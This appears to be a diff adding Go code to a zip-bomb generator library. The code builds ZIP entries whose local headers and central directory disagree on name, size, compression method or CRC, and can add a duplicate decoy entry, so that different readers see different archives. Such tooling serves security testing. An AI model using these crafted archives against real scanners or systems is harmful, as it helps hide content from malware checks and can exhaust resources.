@@ -0,0 +1,99 @@
+package zipbomb
+
+type DifferentialOptions struct {
+	Method           uint16
+	CompressionLevel int // Deflate [-2,9]
+
+	// CentralName is the name of the entry in the central directory. The
+	// local header keeps the filename.
+	CentralName string
+
+	// SizeMismatch makes the central directory claim that the entry does not
+	// expand: the uncompressed size equals the compressed size.
+	SizeMismatch bool
+
+	// MethodMismatch makes the central directory claim that the entry is
+	// stored, or deflated if it is stored.
+	MethodMismatch bool
+
+	// CRCMismatch makes the central directory carry an inverted CRC-32.
+	CRCMismatch bool
+
+	// Duplicate adds a decoy entry with this content in front of the entry.
+	// Both carry the same name in the central directory.
+	Duplicate []byte
+
+	EncryptionOptions
+}
+
+// AddDifferential adds an entry whose local header and central directory
+// record disagree. Streaming readers, which parse local headers, and
+// directory readers, which parse the central directory, see different
+// archives.
+func (zb *ZipBomb) AddDifferential(kernel Kernel, filename string, optFns ...func(o *DifferentialOptions)) error {
+	opts := DifferentialOptions{
+		CompressionLevel: 5,
+		Method:           Deflate,
+		CentralName:      filename,
+	}
+
+	for _, fn := range optFns {
+		fn(&opts)
+	}
+
+	var files []fileRecord
+
+	if opts.Duplicate != nil {
+		d, err := zb.newKernel(opts.CentralName, BytesKernel(opts.Duplicate), opts.Method, opts.CompressionLevel)
+		if err != nil {
+			return err
+		}
+
+		files = append(files, fileRecord{
+			header:     d.LocalFileHeader(),
+			data:       d.Data(),
+			encryption: opts.EncryptionOptions,
+		})
+
+		zb.uncompressedSize = zb.uncompressedSize + int64(d.UncompressedSize())
+	}
+
+	k, err := zb.newKernel(filename, kernel, opts.Method, opts.CompressionLevel)
+	if err != nil {
+		return err
+	}
+
+	lfh := k.LocalFileHeader()
+
+	central := *lfh
+	central.Extra = append([]byte{}, lfh.Extra...)
+	central.Name = opts.CentralName
+
+	if opts.SizeMismatch {
+		central.UncompressedSize64 = central.CompressedSize64
+		central.UncompressedSize = central.CompressedSize
+	}
+
+	if opts.MethodMismatch {
+		if central.Method == Store {
+			central.Method = Deflate
+		} else {
+			central.Method = Store
+		}
+	}
+
+	if opts.CRCMismatch {
+		central.CRC32 = ^central.CRC32
+	}
+
+	files = append(files, fileRecord{
+		header:     lfh,
+		data:       k.Data(),
+		central:    &central,
+		encryption: opts.EncryptionOptions,
+	})
+
+	zb.uncompressedSize = zb.uncompressedSize + int64(k.UncompressedSize())
+
+	return zb.writeFiles(files)
+}